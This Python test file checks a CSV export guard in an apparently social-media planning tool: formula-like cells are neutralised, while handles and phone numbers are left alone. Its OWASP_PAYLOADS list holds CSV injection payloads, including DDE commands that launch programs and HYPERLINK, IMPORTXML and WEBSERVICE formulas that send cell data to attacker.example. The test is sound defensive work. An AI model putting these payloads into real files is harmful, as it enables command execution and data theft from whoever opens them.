"""The CSV formula guard (docs/planning.md, "CSV safety"): formulas are neutralised, handles and
mentions are not touched."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from socialstrategy.core.planning.exports import is_formula_risk, safe_cell, write_csv

OWASP_PAYLOADS = (
    # The examples of OWASP's "CSV Injection" page, and the same with the leading characters
    # it lists (tab, carriage return) and the line feed its %0A example decodes to.
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click for further information")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "\n-3+3+cmd|' /C calc'!D2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://attacker.example")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "=A1",
)
REAL_TEXTS = (
    "@sonnenkorn.freiburg",
    "@ridgeline_sensors",
    "@sonnenkorn.freiburg Danke fürs Vorbeischauen!",
    "@lea und @tim backen heute Brezeln",
    "- Stollen\n- Neujahrsbrezel",
    "-20 % auf alle Brote",
    "+49 761 1234567",
    "#Sauerteig #Freiburg @sonnenkorn.freiburg",
    "Tims Morgen um 3 Uhr – ein Tag als Azubi (mit Video)",
)


def _cell(text):
    [[cell]] = list(csv.reader(io.StringIO(write_csv([[text]]).decode(), newline="")))
    return cell


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_written_as_text(payload):
    assert _cell(payload) == "'" + payload


def test_a_plain_at_reference_is_kept_because_it_cannot_call_anything():
    assert not is_formula_risk("@A1") and is_formula_risk("=A1")


@pytest.mark.parametrize("text", REAL_TEXTS)
def test_handles_mentions_lists_and_phone_numbers_stay_as_written(text):
    assert _cell(text) == text


@given(st.from_regex(r"@[A-Za-z0-9_.]{1,30}( [^(|（｜\x00]{0,40})?", fullmatch=True))
def test_any_handle_followed_by_words_stays_as_written(text):
    assert safe_cell(text) == text


@given(st.text(max_size=60))
def test_the_guard_only_ever_adds_one_quote_and_leaves_no_risk(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not is_formula_risk(str(cell))


@given(st.sampled_from("=+-@\t\r"), st.text(max_size=20), st.sampled_from("(|"), st.text(max_size=20))
def test_a_formula_that_calls_a_function_or_a_program_is_always_neutralised(start, before, call, after):
    assert safe_cell(start + before + call + after) == "'" + start + before + call + after
